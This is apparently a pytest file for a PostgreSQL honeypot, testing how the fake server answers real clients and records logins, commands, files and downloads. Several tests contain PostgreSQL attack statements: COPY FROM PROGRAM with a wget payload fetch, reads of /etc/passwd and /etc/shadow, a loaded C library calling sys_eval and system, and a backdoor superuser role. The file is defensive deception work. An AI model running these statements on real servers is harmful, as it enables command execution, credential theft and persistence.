# SPDX-License-Identifier: MIT
"""The postgresql lure by its real clients: psql, pg_dump, pg_isready and psycopg, and what they leave."""

import asyncio
from decimal import Decimal
from typing import Any

import psycopg
import pytest

from decnet.domain.evidence import Command
from decnet.lures.postgresql.server import Postgresql
from decnet.lures.sql.dataset import dataset_of
from tests.lures.postgresql.database import connected, database, fields_of, logged_in, message, startup
from tests.support.clients import Finished, run
from tests.support.lures import Served, serving

pytestmark = pytest.mark.client


async def psql(
    served: Served, *commands: str, role: str = "postgres", password: str = "secret", name: str = "postgres"
) -> Finished:
    """Run psql with commands, one after another."""
    options = [part for command in commands for part in ("-c", command)]
    argv = ["psql", "-X", "-A", "-t", "-h", served.host, "-p", str(served.port), "-U", role, "-d", name, *options]
    finished = await run(*argv, environment={"PGPASSWORD": password, "PGGSSENCMODE": "disable"})
    await served.session_ended()
    return finished


def commands_of(served: Served) -> list[str]:
    """Return the statements that were recorded."""
    return [body.command for body in served.pen.bodies("command")]


async def test_psql_logs_in_by_md5_over_tls_and_asks_for_the_version() -> None:
    async with serving(database(tls=True)) as served:
        finished = await psql(served, "select version()")
        assert finished.stdout.startswith(b"PostgreSQL 13.14 (Debian 13.14-0+deb11u1)")
        (credential,) = served.pen.bodies("credential")
        assert (credential.mechanism, credential.username, credential.accepted) == ("md5", "postgres", True)
        assert served.pen.secrets() == [b"secret"]
        hello, client = served.pen.bodies("client")
        assert (hello.software, len(hello.fingerprint)) == ("TLS client", 32)
        assert client.software == "psql"
        assert client.detail["tls"] == "TLSv1.3"
        assert commands_of(served) == ["select version()"]


@pytest.mark.parametrize("mechanism", ["scram-sha-256", "password"])
async def test_psql_logs_in_by_other_ways(mechanism: str) -> None:
    async with serving(database(authentication=mechanism)) as served:
        assert (await psql(served, "select 1")).stdout == b"1\n"
        (credential,) = served.pen.bodies("credential")
        assert credential.mechanism == mechanism
        assert served.pen.secrets() == [b"secret"]


async def test_scram_binds_to_the_certificate() -> None:
    async with serving(database(tls=True, authentication="scram-sha-256")) as served:
        argv = (
            "psql",
            "-X",
            "-t",
            "-A",
            "-c",
            "select 1",
            f"host={served.host} port={served.port} user=postgres sslmode=require channel_binding=require",
        )
        finished = await run(*argv, environment={"PGPASSWORD": "secret", "PGGSSENCMODE": "disable"})
        assert finished.stdout == b"1\n"
        await served.session_ended()
        (credential,) = served.pen.bodies("credential")
        assert credential.detail["client-final"].startswith("c=cD10bHMtc2VydmVyLWVuZC1wb2ludCws")


async def test_wrong_password_is_refused_and_kept() -> None:
    async with serving(database()) as served:
        finished = await psql(served, "select 1", password="123456")
        assert b'FATAL:  password authentication failed for user "postgres"' in finished.stderr
        (credential,) = served.pen.bodies("credential")
        assert not credential.accepted
        # one of the weak ones, which the digest gives away
        assert served.pen.secrets() == [b"123456"]


async def test_psql_lists_databases_roles_and_tables() -> None:
    lure = database()
    name = dataset_of(lure.decoy).name
    async with serving(lure) as served:
        finished = await psql(served, r"\l", r"\du", r"\dn", r"\df", r"\dx", r"\z", name=name)
        assert name.encode() in finished.stdout
        assert b"alice" in finished.stdout
        assert finished.stderr == b""
        table = lure.cluster_of("127.0.0.1").tables(name)[0][1].name
        shown = await psql(served, r"\d", rf"\d {table}", rf"\d+ {table}", rf"select count(*) from {table}", name=name)
        assert shown.stderr == b""
        assert f"{table}_id_seq".encode() in shown.stdout
        assert b"id|integer||not null|nextval(" in shown.stdout


async def test_pg_isready_and_pg_dump_find_a_server() -> None:
    lure = database()
    name = dataset_of(lure.decoy).name
    async with serving(lure) as served:
        ready = await run("pg_isready", "-h", served.host, "-p", str(served.port))
        assert ready.code == 0
        await served.session_ended()
        argv = ("pg_dump", "-h", served.host, "-p", str(served.port), "-U", "postgres", name)
        dumped = await run(*argv, environment={"PGPASSWORD": "secret", "PGGSSENCMODE": "disable"})
        assert dumped.stderr == b""
        assert b"CREATE TABLE public." in dumped.stdout
        assert b"-- PostgreSQL database dump complete" in dumped.stdout


async def test_psycopg_gets_values_in_text_and_binary_form() -> None:
    lure = database()
    async with serving(lure) as served:
        await asyncio.to_thread(
            converse_with_psycopg, f"host={served.host} port={served.port} user=postgres password=secret gssencmode=disable"
        )
        await served.session_ended()
        bound = [body for body in served.pen.bodies("command") if "$1" in body.detail]
        assert bound[0].detail["$1"] == "41"
        (copied,) = [body for body in served.pen.bodies("file") if body.path == "COPY pt FROM STDIN"]
        assert served.pen.blobs[copied.sha256] == b"copied\t7\n\\N\t8\n"


def converse_with_psycopg(conninfo: str) -> None:
    """Let psycopg create, insert, copy, page and listen."""
    with psycopg.connect(conninfo) as connection:
        cursor: Any = connection.cursor()
        assert cursor.execute("select %s::int + 1, %s", (41, "héy")).fetchone() == (42, "héy")
        cursor.execute("create table pt (a text, b int, c numeric(8,2))")
        cursor.executemany("insert into pt values (%s, %s, %s)", [("x", 1, Decimal("2.50")), ("y", None, None)])
        with cursor.copy("copy pt(a, b) from stdin") as copy:
            copy.write_row(("copied", 7))
            copy.write_row((None, 8))
        assert cursor.execute("select a, b, c from pt").fetchall()[2:] == [("copied", 7, None), (None, 8, None)]
        binary = connection.cursor(binary=True)
        assert binary.execute("select 1::int4, 1.25::numeric, true, '\\xdead'::bytea").fetchone() == (
            1,
            Decimal("1.25"),
            True,
            b"\xde\xad",
        )
        with connection.cursor(name="pages") as named:
            named.execute("select * from generate_series(1, 5)")
            assert [named.fetchmany(2), named.fetchall()] == [[(1,), (2,)], [(3,), (4,), (5,)]]
        connection.rollback()
        with pytest.raises(psycopg.errors.UndefinedTable):
            cursor.execute("select * from pt")
        connection.rollback()


async def test_command_through_copy_runs_in_the_shell_of_the_machine() -> None:
    """The attack that most intruders try first: a table for the output, COPY FROM PROGRAM, a look at the table."""
    async with serving(database()) as served:
        finished = await psql(
            served,
            "CREATE TABLE cmd_exec(cmd_output text)",
            "COPY cmd_exec FROM PROGRAM 'id; wget http://198.51.100.7/x.sh -O /tmp/x.sh'",
            "SELECT * FROM cmd_exec",
            "COPY cmd_exec FROM PROGRAM 'nosuchprogram'",
        )
        assert b"uid=114(postgres) gid=120(postgres)" in finished.stdout
        assert b'ERROR:  program "nosuchprogram" failed\nDETAIL:  command not found' in finished.stderr
        run_ones = [body for body in served.pen.bodies("command") if body.detail.get("through") == "postgres"]
        assert [body.command for body in run_ones] == ["id; wget http://198.51.100.7/x.sh -O /tmp/x.sh", "nosuchprogram"]
        (download,) = served.pen.bodies("download")
        assert download.url == "http://198.51.100.7/x.sh"


async def test_who_is_no_superuser_runs_no_programs_and_reads_no_files() -> None:
    async with serving(database()) as served:
        statements = (
            "copy (select 1) to program 'id'",
            "copy (select 1) to '/tmp/x'",
            "select pg_read_file('/etc/passwd')",
            "select * from pg_shadow",
        )
        finished = await psql(served, *statements, role="alice", password="wonder")
        assert b"must be superuser or a member of the pg_execute_server_program role to COPY" in finished.stderr
        assert b"permission denied for function pg_read_file" in finished.stderr
        assert b"permission denied for view pg_shadow" in finished.stderr
        assert "id" in commands_of(served)


async def test_library_that_comes_as_a_large_object_can_be_called() -> None:
    library = b"\x7fELF" + bytes(60)
    async with serving(database()) as served:
        finished = await psql(
            served,
            f"select lo_from_bytea(4444, decode('{library.hex()}', 'hex'))",
            "select lo_export(4444, '/tmp/udf.so')",
            "create function sys_eval(text) returns text as '/tmp/udf.so', 'sys_eval' language c strict",
            "select sys_eval('whoami')",
            "create function f() returns int as '/lib/x86_64-linux-gnu/libc.so.6', 'system' language c",
        )
        assert b"postgres\n" in finished.stdout
        assert b'incompatible library "/lib/x86_64-linux-gnu/libc.so.6": missing magic block' in finished.stderr
        kept = {body.path: served.pen.blobs[body.sha256] for body in served.pen.bodies("file")}
        assert kept["/tmp/udf.so"] == kept["large object 4444"] == library
        assert Command(command="whoami", exit_code=0, detail={"through": "postgres"}) in served.pen.bodies("command")


async def test_files_are_those_of_the_machine() -> None:
    async with serving(database()) as served:
        finished = await psql(
            served, "select pg_read_file('/etc/hostname')", "select pg_ls_dir('.')", "select pg_read_file('/etc/shadow')"
        )
        assert finished.stdout.startswith(b"files01\n\nPG_VERSION\nbase\n")
        assert b'could not open file "/etc/shadow" for reading: Permission denied' in finished.stderr


async def test_password_that_is_set_is_a_secret_and_opens_the_door_later() -> None:
    async with serving(database()) as served:
        await psql(served, "alter role postgres password 'it''s mine'", "create role eve superuser login password 'eve1'")
        assert commands_of(served)[0] == "alter role postgres password '[secret]'"
        assert {b"it's mine", b"eve1"} <= set(served.pen.secrets())
        assert (await psql(served, "select current_user", password="it's mine")).stdout == b"postgres\n"
        assert (await psql(served, "select 1", role="eve", password="eve1")).stdout == b"1\n"


async def test_what_one_changes_stays_for_his_next_connection_and_for_nobody_else() -> None:
    lure = database()
    async with serving(lure) as served:
        await psql(served, "create table mine (id int)", "insert into mine values (7)")
        assert (await psql(served, "select * from mine")).stdout == b"7\n"
        assert lure.cluster_of("127.0.0.9").databases["postgres"].world.table("public", "mine") is None


async def test_decoys_differ_and_one_decoy_agrees_with_itself() -> None:
    def passwords(seed: str) -> dict[str, str]:
        return Postgresql(database(seed).decoy, type(database().options)()).accounts

    assert passwords("one") == passwords("one")
    assert len({str(sorted(passwords(str(number)).items())) for number in range(8)}) == 8
    data = dataset_of(database("one").decoy)
    assert passwords("one")[data.account] == data.password


async def test_statement_can_be_cancelled_and_a_connection_ended_by_another() -> None:
    async with logged_in() as (client, served), connected(served) as other:
        told = await other.log_in()
        key = next(body for kind, body in told if kind == b"K")
        await other.send(message(b"Q", b"select pg_sleep(50)\0"))
        pid = int.from_bytes(key[:4])
        while (await client.rows(f"select state from pg_stat_activity where pid = {pid}")) != [["active"]]:
            pass
        async with connected(served) as third:
            await third.send(b"\0\0\0\x10\x04\xd2\x16\x2e" + key)
            assert await third.rest() == b""
        error = next(fields_of(body) for kind, body in await other.until(b"Z") if kind == b"E")
        assert error["M"] == "canceling statement due to user request"
        assert await client.rows(f"select pg_terminate_backend({pid})") == [["t"]]
        kind, body = await other.one()
        assert (kind, fields_of(body)["C"]) == (b"E", "57P01")


async def test_a_sleep_of_no_number_holds_up_nobody() -> None:
    async with logged_in() as (client, _), asyncio.timeout(10):
        assert await client.rows("select pg_sleep('NaN')") == [[""]]


async def test_notifications_reach_those_who_listen() -> None:
    async with logged_in() as (client, served), connected(served) as other:
        await other.log_in()
        await other.ask("listen news")
        await client.ask("notify news, 'today'")
        kind, body = await other.one()
        assert kind == b"A"
        assert body[4:] == b"news\0today\0"


async def test_denials_are_told_word_by_word() -> None:
    async with serving(database(answer="no-entry")) as served, connected(served) as client:
        await client.send(startup(user="eve", database="shop"))
        found = fields_of((await client.one())[1])
        assert found["M"] == 'no pg_hba.conf entry for host "127.0.0.1", user "eve", database "shop", SSL off'
    async with serving(database(answer="denial")) as served, connected(served) as client:
        assert fields_of((await client.log_in())[-1][1])["M"] == 'password authentication failed for user "postgres"'
    async with serving(database()) as served, connected(served) as client:
        found = fields_of((await client.log_in(database="nosuch"))[-1][1])
        assert (found["S"], found["C"], found["M"]) == ("FATAL", "3D000", 'database "nosuch" does not exist')
